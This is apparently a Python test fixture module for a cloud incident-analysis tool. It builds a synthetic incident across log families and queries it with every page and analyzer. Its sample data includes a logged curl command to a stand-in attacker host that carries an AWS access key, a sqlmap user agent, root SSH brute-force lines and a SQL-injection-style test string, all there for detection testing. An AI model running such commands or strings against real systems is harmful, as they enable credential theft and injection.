"""One incident with events of all families, and every question that pages and analyzers put to it."""

import json
from datetime import timedelta
from importlib.util import find_spec
from pathlib import Path

import pyarrow as pa
import yaml

from analyzers.sigma import called_query, callers_of, load_rules, query_of
from events import FAMILIES, FIELDS, STACKED, Filters, Reader, networks, open_events, signals
from events.conversations import ORDERS, conversations
from events.drift import changes
from events.entities import became, behind, resources_of, ways
from events.flows import talks_with
from events.objects import handlings
from events.questions import deeds_by_key, issues, profiles
from events.sightings import COLUMNS, question
from examiners import EventBatch, examiners
from plugins import Window
from tests.analyzers.building import START, as_file, id_of, member, records

FIXTURES = Path(__file__).parents[1] / "analyzers" / "rules"
PACK = load_rules(Path(__file__).parents[2] / "analyzers" / "rules")
NOON = START.replace(tzinfo=None)
REFERENCE = "FP-2026-000001"
HOSTILE = 'it\'s \\ a "quote"; -- ü☃ %_?'
ITEM = {
    "told_by": "AWS Config",
    "resource_type": "AWS::S3::Bucket",
    "resource_id": "exports",
    "account_id": "111122223333",
    "region": "us-east-1",
}
KEPT = {"resource_id": "exports", "status": "OK"}
OTHERS = {
    "network_flows": [
        {"interface_id": "eni-1", "srcaddr": "10.0.0.5", "dstaddr": "203.0.113.7", "srcport": 443, "dstport": 51000, "bytes": 900, "packets": 2, "action": "ACCEPT"},
        {"interface_id": "eni-1", "srcaddr": "203.0.113.7", "dstaddr": "10.0.0.5", "srcport": 51000, "dstport": 443, "bytes": 80, "action": "ACCEPT"},
        {"interface_id": "eni-2", "srcaddr": "203.0.113.7", "dstaddr": "10.0.0.6", "srcport": 52000, "dstport": 22, "bytes": 40, "action": "REJECT"},
        {"interface_id": None, "pkt_srcaddr": "2001:db8::1", "pkt_dstaddr": "fd00::2", "action": "ACCEPT", "bytes": 7},
    ],
    "dns_queries": [
        {"query_name": "Evil.Example.", "query_type": "A", "rcode": "NOERROR", "srcaddr": "10.0.0.5", "answers": '[{"Rdata":"203.0.113.7","Type":"A"}]'},
        {"query_name": "a.b.evil.example.", "rcode": "NXDOMAIN", "answers": "not JSON", "srcaddr": "::ffff:0:1"},
        {"query_name": "two.example.", "rcode": "NOERROR", "answers": '[{"Rdata":"1.2.3.4"},{"Rdata":"5.6.7.8"}]'},
    ],
    "access_requests": [
        {"service": "elb", "client_ip": "203.0.113.7", "url": "HTTPS://user@Evil.Example:443/a?b#c", "user_agent": "sqlmap/1.7", "x_forwarded_for": "1.2.3.4, 203.0.113.7", "status": 404},
        {"service": "waf", "host": "evil.example", "path": "/x", "query": "y=1", "action": "BLOCK", "status": 403, "bytes_sent": 1234567},
        {"service": "s3", "requester": "arn:aws:iam::111122223333:user/mallory", "resource": "exports", "status": 200, "key": "q3.csv"},
    ],
    "host_events": [
        {"host": "web-1", "program": "sshd", "message": "Failed password for root from 203.0.113.7 port 22", "source_ip": "203.0.113.7", "user_name": "root", "outcome": "failure"},
        {"host": "web-1", "program": "bash", "message": "curl https://evil.example/x -H AKIAEXAMPLEMALLORY01", "fields": '{"md5":"d41d8cd98f00b204e9800998ecf8427e"}'},
    ],
    "kubernetes_audit": [
        {"verb": "get", "user_name": "mallory", "source_ip": "203.0.113.7", "source_ips": '["203.0.113.7"]', "user_agent": "kubectl/1.30", "response_code": 403, "response_reason": "Forbidden"},
    ],
    "alerts": [
        {"product": "GuardDuty", "type": "Recon:IAMUser/X", "title": HOSTILE, "remote_ip": "203.0.113.7", "detail": '{"ip":"203.0.113.7"}', "access_key_id": "AKIAEXAMPLEMALLORY01", "severity": "HIGH", "severity_number": 70},
    ],
    "configuration_items": [
        {**ITEM, "status": "OK", "configuration": '{"policy":[]}', "tags": '{"a":"1"}'},
        {**ITEM, "status": "OK", "configuration": '{"policy":["open"]}', "tags": '{"a":"2"}', "others": '{"relatedEvents":[]}'},
        {**ITEM, "status": "OK", "configuration": "no JSON", "tags": "{", "others": json.dumps({"relatedEvents": [id_of("event", 1)], "supplementaryConfiguration": {"BucketPolicy": {"open": True}}})},
        {**ITEM, "resource_id": "role", "resource_type": "AWS::IAM::Role", "status": "ResourceDiscovered", "configuration": "{}"},
    ],
}  # fmt: skip
KNOWN = {
    "ipv4-addr": ["203.0.113.7", "198.51.100.0/24", "10.0.0.0/12", "1.2.3.0/25"],
    "ipv6-addr": ["2001:db8::/32", "fd00::2"],
    "domain-name": ["evil.example", "other.example"],
    "url": ["https://evil.example/a?b", "http://evil.example/x?y=1"],
    "file": ["d41d8cd98f00b204e9800998ecf8427e"],
    "user-account": ["mallory", "arn:aws:iam::111122223333:user/mallory"],
    "x-aws-access-key": ["AKIAEXAMPLEMALLORY01"],
    "user-agent": ["sqlmap", "aws-cli"],
}
WINDOW = Window(START - timedelta(hours=1), START + timedelta(days=2))
TYPED = {
    "family": "Findings of AWS services,cloudtrail",
    "event_name": "Describe*,Get?bject*,CreateUser",
    "event_source": "s3,ec2.amazonaws.com",
    "principal": "mallory,arn:aws:iam::*",
    "source_ip": "203.0.113.0/24,2001:db8::/32,10.0.0.5,203.0.113.4/30",
    "outcome": "error",
    "category": "Management",
    "evidence": "E0001",
    "user_agent": HOSTILE,
}


# To say one question takes 0.1 s, and there are hundreds: all of them where pyspark is installed, as by everybody who
# works on engines, else a part.
IS_WHOLE = find_spec("pyspark") is not None


def told():
    """The events on which our rules fire, and those on which they must not."""
    files = [yaml.safe_load(path.read_text()) for path in sorted(FIXTURES.glob("*.yml"))]
    return [line for file in files for line in (*file["fires"], *file["near_miss"])]


def rows(family, *made):
    """Rows of a family, a minute apart and the last without a time; what is not told is null."""
    schema = FAMILIES[family].schema
    found = []
    for number, one in enumerate(made):
        place = {
            "evidence": f"{REFERENCE}-E0002",
            "part": 1 + list(OTHERS).index(family),
            "member": 0,
            "src_file": f"{family}.log",
            "src_row": number,
        }
        at = NOON + timedelta(minutes=number)
        found.append(dict.fromkeys(schema.names) | place | {"event_time": at, "event_id": f"{family}-{number}"} | one)
    found.append(found[-1] | {"src_row": len(made), "event_time": None, "event_id": "undated"})
    return pa.RecordBatch.from_pylist(found, schema=schema)


def everything(folder, url=""):
    """The store of an incident of all families under ``folder`` (or ``url``), and the name of its manifest."""
    store = open_events(url or folder.as_uri(), REFERENCE)
    examined = examiners.get("cloudtrail").examine(iter([member(0, as_file([*records(told()), *odd()]))]))
    batches = [one.rows for one in examined if isinstance(one, EventBatch)]
    staged = [store.stage("trail", "cloudtrail", batches)]
    staged += [store.stage(f"of-{family}", family, [rows(family, *made)]) for family, made in OTHERS.items()]
    return store, store.index(staged).name


def odd():
    """Records that break what is careless: a copy, hostile text, no time, JSON that is none."""
    hostile = records(
        [{"eventName": HOSTILE, "userAgent": HOSTILE, "requestParameters": {"bucketName": HOSTILE, "n": None}}]
    )
    return [*hostile, *hostile, {**hostile[0], "eventTime": None, "eventID": "no time", "requestParameters": "odd"}]


def pages(reader, every=1):
    """Ask what pages ask; each answer by the name of its page. ``every`` leaves out all filters but each so manieth."""
    filters = [Filters(), *(Filters.from_query({name: value}) for name, value in TYPED.items())]
    filters += [Filters.from_query({f"not_{name}": value}) for name, value in TYPED.items()]
    filters += [Filters.from_query({"q": HOSTILE}), Filters(start=WINDOW.start, end=WINDOW.end, q="mallory")]
    for number, one in enumerate(filters[::every]):
        yield f"count {number}", reader.count(one)
        yield f"page {number}", walked(reader, one, newest_first=bool(number % 2))
    yield "rows", list(reader.rows(Filters(), 210))
    yield "changes", changes(reader)
    yield from summaries(reader)
    yield from entities(reader)


def walked(reader, filters, newest_first):
    """Two pages on, and one back."""
    first = reader.page(filters, limit=7, newest_first=newest_first)
    pages = [first]
    if first.next:
        pages.append(reader.page(filters, after=first.next, limit=7, newest_first=newest_first))
        if pages[-1].before:
            pages.append(reader.page(filters, after=pages[-1].before, limit=7, newest_first=newest_first))
    return pages


def summaries(reader):
    for by in STACKED:
        yield f"histogram {by}", reader.histogram(by=by)
    for field in FIELDS:
        yield f"top {field}", reader.top(Filters(), field)
    page = reader.page(Filters(), limit=3)
    yield "event", [reader.event(row["key"]) for row in page.rows]
    yield "events_at", reader.events_at([(f"{REFERENCE}-E0001", 1, 0, 1)], (WINDOW.start, WINDOW.end))
    for order in ORDERS:
        yield f"conversations {order}", conversations(reader, order, is_outside=order == "flows")
    yield "talks", talks_with(reader, "203.0.113.7")


def entities(reader):
    named = {"principal": "arn:aws:iam::111122223333:user/mallory", "access_key": "AKIAEXAMPLEMALLORY01"}
    named |= {"address": "203.0.113.7", "resource": "s3:exports"}
    for kind, value in named.items():
        yield f"ways {kind}", ways(reader, kind, value)
        yield f"resources {kind}", resources_of(reader, kind, value)
        yield f"became {kind}", became(reader, kind, value)
    yield "behind", behind(reader, ["ASIAEXAMPLE0000000001", "AKIAEXAMPLE000000001"])


def analyses(reader, windows=(None, WINDOW)):
    """Ask what analyzers ask besides rules."""
    for window in windows:
        yield "profiles", list(profiles(reader, window))
        yield "issues", issues(reader, window)
        yield "deeds", deeds_by_key(reader, window)
        yield "handlings", list(handlings(reader, window))
        yield "span", signals.span(reader, window)
        yield "moving", networks.moving_addresses(reader, window)
        yield "visits", networks.visits(reader, {"203.0.113.7": "AS1", "198.51.100.9": "AS2"}, window)
        yield "newcomers", signals.newcomers(reader, START, window)
        yield "known places", signals.known_places(reader, window)
        yield "touched", signals.touched(reader, ["203.0.113.7"], window)
        for kind in signals.KINDS:
            yield f"days {kind}", list(signals.days_of(reader, kind, window))
            yield f"uniques {kind}", signals.uniques(reader, kind, window)
            yield f"totals {kind}", signals.totals(reader, kind, ["203.0.113.7", "AKIAEXAMPLEMALLORY01"], window)
        for what in ("address", "agent"):
            yield f"strangers {what}", signals.strangers(reader, what, window)
    yield "resources", signals.resources_at(reader, [f"{REFERENCE}-E0001/1/0/{row}" for row in range(40)])


def sightings(reader):
    """The questions about indicators: name and (SQL, values)."""
    for kind in COLUMNS:
        yield kind, question(reader, kind, KNOWN[kind], WINDOW if kind == "url" else None)


def rules():
    """The questions of our pack: name and (SQL, values)."""
    yield "calls", called_query(WINDOW)
    for rule in PACK.rules:
        yield rule.source, query_of(rule.sql, None)
        yield f"callers of {rule.source}", callers_of(rule.sql, WINDOW)


class Noting(Reader):
    """A reader that answers, and writes down what it was asked."""

    asked: dict[str, tuple] = {}

    def select(self, sql, parameters=(), *, seconds=None):
        self.asked.setdefault(sql, tuple(parameters))
        return super().select(sql, parameters, seconds=seconds)

    def dicts(self, sql, parameters):
        self.asked.setdefault(sql, tuple(parameters))
        return super().dicts(sql, parameters)


def noting(store, name):
    """A reader that notes what it is asked, over the files of a manifest."""
    reader = store.reader(name, seconds=60)
    found = Noting(store.folder, reader.manifest, reader._files, 60)
    found.asked = {}
    return found
